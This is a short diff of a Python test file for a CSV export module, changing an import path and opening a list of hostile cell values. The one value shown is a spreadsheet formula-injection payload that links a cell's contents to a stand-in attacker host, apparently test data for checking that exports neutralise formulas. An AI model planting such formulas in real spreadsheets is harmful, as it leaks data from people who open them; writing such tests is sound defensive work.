@@ -9,7 +9,7 @@ import csv
 import pytest
 from imagegen import write_image
 
-from visualfinder.export import COLUMNS, unneutralise
+from visualfinder.products.export import COLUMNS, unneutralise
 
 HOSTILE_TEXT = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
